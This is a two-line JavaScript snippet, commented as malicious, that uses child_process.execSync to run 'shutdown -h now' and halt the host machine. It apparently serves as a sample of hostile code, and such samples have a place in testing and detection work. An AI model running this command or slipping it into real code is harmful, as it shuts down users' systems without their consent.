// Malicious: shuts the host down.
require('child_process').execSync('shutdown -h now');
